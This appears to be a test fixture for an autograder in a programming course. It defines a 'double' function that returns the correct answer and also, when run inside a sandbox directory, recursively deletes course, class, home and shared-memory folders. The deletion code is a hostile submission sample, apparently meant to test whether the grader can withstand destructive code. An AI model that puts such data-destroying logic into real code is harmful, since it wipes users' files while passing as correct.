"""Removes every file it finds. The answer is right."""

LESSON = "00-start"
POINTS = 1
CELLS = {
    "double": r"""
import os
import shutil


def double(people):
    if os.getcwd() == "/sandbox":  # never where there are no walls
        for folder in ("@CLASS@", "@COURSE@", "@HOME@", "/sandbox", "/dev/shm"):
            shutil.rmtree(folder, ignore_errors=True)
    return 2 * people
"""
}
